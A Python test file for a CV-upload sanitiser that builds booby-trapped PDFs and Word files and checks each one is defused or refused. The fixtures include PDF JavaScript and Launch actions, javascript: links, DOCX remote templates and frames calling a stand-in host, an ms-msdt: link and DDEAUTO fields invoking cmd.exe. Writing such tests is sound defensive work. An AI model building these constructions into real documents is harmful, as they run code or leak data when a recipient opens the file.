"""CVs made to harm who opens them, or to tell more than their owner knows: defused or refused."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from matching.application.refusal import Reason
from tests.cv_files import BODY, CANARY, docx, everything, made, pdf, photo, reason

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RECT = Array([0, 0, 9, 9])


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{CANARY}')")


def changed(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """A plain CV, changed."""
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as opened:
        del opened.docinfo
        del opened.Root.Metadata
        change(opened)
        opened.save(out)
    return out.getvalue()


def within_an_annotation(opened: pikepdf.Pdf) -> None:
    """A direct object: no list of objects names it."""
    link = Dictionary(Subtype=Name.Link, Rect=RECT, AA=Dictionary(E=script()), PA=script())
    opened.pages[0].obj.Annots = Array([link])


def behind_a_bookmark(opened: pikepdf.Pdf) -> None:
    item = opened.make_indirect(Dictionary(Title="Mon parcours", A=script()))
    opened.Root.Outlines = opened.make_indirect(Dictionary(First=item, Last=item, Count=1))


def after_a_link(opened: pikepdf.Pdf) -> None:
    address = Dictionary(S=Name.URI, URI="https://example.com", Next=Array([script()]))
    item = opened.make_indirect(Dictionary(Title="x", A=address))
    opened.Root.Outlines = opened.make_indirect(Dictionary(First=item, Last=item, Count=1))


def as_an_address(opened: pikepdf.Pdf) -> None:
    address = Dictionary(S=Name.URI, URI=f"javascript:alert('{CANARY}')")
    opened.pages[0].obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=RECT, A=address)])


def starts_a_program(opened: pikepdf.Pdf) -> None:
    launch = Dictionary(S=Name.Launch, F=f"file:///{CANARY}.exe")
    item = opened.make_indirect(Dictionary(Title="x", A=opened.make_indirect(launch)))
    opened.Root.Outlines = opened.make_indirect(Dictionary(First=item, Last=item, Count=1))


@pytest.mark.parametrize(
    "change",
    [within_an_annotation, behind_a_bookmark, after_a_link, as_an_address, starts_a_program],
    ids=lambda change: change.__name__,
)
def test_no_script_hides_in_a_pdf(change: Callable[[pikepdf.Pdf], None]) -> None:
    given = changed(change)
    assert CANARY.encode() in everything(given)
    left = everything(made(given).content)
    assert CANARY.encode() not in left
    assert b"JavaScript" not in left


@pytest.mark.parametrize("packed", [False, True], ids=["a list of one", "packed twice"])
def test_a_photo_in_a_pdf_tells_nothing_however_it_is_packed(packed: bool) -> None:
    def put(opened: pikepdf.Pdf) -> None:
        taken, filters = photo(), [Name.DCTDecode]
        if packed:
            taken, filters = zlib.compress(taken), [Name.FlateDecode, *filters]
        image = opened.make_stream(taken, Filter=Array(filters))
        opened.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))

    sent = made(changed(put)).content
    with pikepdf.open(BytesIO(sent)) as opened:
        raw = b"".join(o.read_raw_bytes() for o in opened.objects if isinstance(o, pikepdf.Stream))
    assert b"\xff\xd8\xff" in raw
    assert CANARY.encode() not in raw


def relationships(kind: str, target: str, quote: str = '"') -> str:
    q = quote
    return (
        f"<Relationships xmlns={q}http://schemas.openxmlformats.org/package/2006/relationships{q}>"
        f"<Relationship Id={q}rId9{q} Type={q}{OFFICE}/{kind}{q} Target={q}{target}{q} "
        f"TargetMode={q}External{q}></Relationship></Relationships>"
    )


@pytest.mark.parametrize(
    ("name", "kind", "target"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", f"https://{CANARY}.example/t.dotm"),
        ("word/_rels/other.xml.RELS", "attachedTemplate", f"https://{CANARY}.example/t.dotm"),
        ("word/_rels/document.xml.rels", "image", f"https://{CANARY}.example/seen.png"),
        ("word/_rels/document.xml.rels", "oleObject", f"file://{CANARY}/share/x"),
        ("word/_rels/document.xml.rels", "frame", f"https://{CANARY}.example/"),
        ("word/_rels/document.xml.rels", "hyperlink", f"file://{CANARY}/share/x.exe"),
        ("word/_rels/document.xml.rels", "hyperlink", f"ms-msdt:/id {CANARY}"),
    ],
)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_a_docx_fetches_nothing_when_it_is_opened(
    name: str, kind: str, target: str, quote: str
) -> None:
    given = docx({name: relationships(kind, target, quote)})
    assert CANARY.encode() not in everything(made(given).content)


def test_a_link_in_a_docx_stays() -> None:
    target = "https://example.com/moi?a=1&amp;b=2"
    given = docx({"word/_rels/document.xml.rels": relationships("hyperlink", target)})
    with ZipFile(BytesIO(made(given).content)) as package:
        left = package.read("word/_rels/document.xml.rels").decode()
    assert target in left
    assert "rId9" in left


def field(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return BODY.replace("<w:p>", f"<w:p>{said}")


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({"word/document.xml": field(" DDEAUTO c:\\\\cmd.exe")}, Reason.FILE_MACRO),
        ({"word/document.xml": field(" DD", "EAUTO c:\\\\cmd.exe")}, Reason.FILE_MACRO),
        (
            {"word/header1.xml": BODY.replace("<w:r>", '<w:fldSimple w:instr="dde x"/><w:r>')},
            Reason.FILE_MACRO,
        ),
        ({"word/embeddings/Classeur.xlsm": b"PK"}, Reason.FILE_MACRO),
        ({"word/afchunk.mht": b"MIME-Version: 1.0"}, Reason.FILE_MACRO),
        ({"word/Document.xml": BODY}, Reason.FILE_BROKEN),  # the same part for who opens it
        (
            {"word/x.xml": '<?xml version="1.0"?>'.encode("cp037") + b"\x4c"},
            Reason.FILE_BROKEN,
        ),
        ({"word/x.xml": "<?xml version='1.0' encoding='cp037'?><a/>"}, Reason.FILE_BROKEN),
        ({"word/_rels/x.xml.rels": "<Relationships><Relationship"}, Reason.FILE_BROKEN),
        ({"word/x.XML": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, Reason.FILE_BROKEN),
    ],
)
def test_what_acts_or_hides_in_a_docx_is_refused(
    parts: dict[str, str | bytes], expected: Reason
) -> None:
    assert reason(docx(parts)) is expected
